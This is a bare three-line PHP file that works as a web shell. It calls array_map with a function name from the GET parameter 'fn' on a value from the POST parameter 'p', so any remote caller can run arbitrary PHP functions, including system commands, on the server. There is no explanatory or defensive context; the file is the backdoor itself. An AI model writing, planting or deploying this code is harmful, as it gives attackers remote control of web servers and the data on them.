<?php
$arr = array($_POST['p']);
array_map($_GET['fn'], $arr);
